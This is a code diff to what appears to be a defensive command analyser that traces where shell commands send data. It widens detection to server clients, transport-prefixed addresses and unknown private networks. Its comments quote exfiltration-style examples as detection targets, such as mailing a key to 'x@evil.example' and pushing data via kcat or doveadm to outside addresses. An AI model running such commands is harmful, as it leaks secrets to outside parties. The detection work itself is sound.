@@ -2621,7 +2621,8 @@ def _generic(argv: list[str], state: _State, name: str) -> None:
         _urls(addressed, state, name)
         if name == "aws":  # `aws s3api put-object --bucket B --metadata k=$(...)`: what it writes goes to B
             _urls([f"s3://{bucket}/" for bucket in _s3api_written(operands)], state, name)
-        if entry is None:  # a tool the table does not know: the servers its words name by address
+        if entry is None or Role.SERVER_CLIENT in entry.roles:
+            # a tool the table does not know, or a server's client: the servers its words name by address
             _servers_named(operands, state, name)
     if entry is not None and Role.MAILS in entry.roles:  # `mail -a KEY x@evil.example`: the domain receives
         from limen.normalize import net
@@ -3224,12 +3225,16 @@ def _s3api_written(operands: list[str]) -> list[str]:
 
 
 # A server by its address and port (`52.14.88.201:9092`)
-_ADDRESS_PORT = re.compile(r"^(\d{1,3}(?:\.\d{1,3}){3}):(\d{2,5})$")
+# An address and port, bare or with the transport before it (`tcp:198.51.100.23:12345`, socat's and
+# doveadm's way of naming a peer)
+_ADDRESS_PORT = re.compile(r"^(?:(?:tcp|udp|ssl|tls)[46]?:)?(\d{1,3}(?:\.\d{1,3}){3}):(\d{2,5})$", re.I)
 
 
 def _servers_named(operands: list[str], state: _State, via: str) -> None:
-    """The servers an unknown tool is told to talk to by a public address (`kcat -b 52.14.88.201:9092 -P`):
-    where what it sends goes. Private and loopback addresses are the machine's and the network's own."""
+    """The servers an unknown tool is told to talk to by address (`kcat -b 52.14.88.201:9092 -P`, `doveadm
+    backup -u USER tcp:198.51.100.23:12345`): where what it sends goes. Loopback addresses and those of the
+    organisation's own networks (`net.organisation_network`) are the machine's and the network's own; an
+    address from a documentation or reserved range stands for anyone's."""
     from limen.model import HostClass
     from limen.normalize import net
 
@@ -3239,7 +3244,9 @@ def _servers_named(operands: list[str], state: _State, via: str) -> None:
             if found is None:
                 continue
             where = net.host_destination(found.group(1), int(found.group(2)), via_command=via)
-            if where.host_class is HostClass.PUBLIC:
+            if where.host_class is HostClass.PUBLIC or (
+                where.host_class is HostClass.PRIVATE and not net.organisation_network(where)
+            ):
                 state.destinations.append(where)
 
 
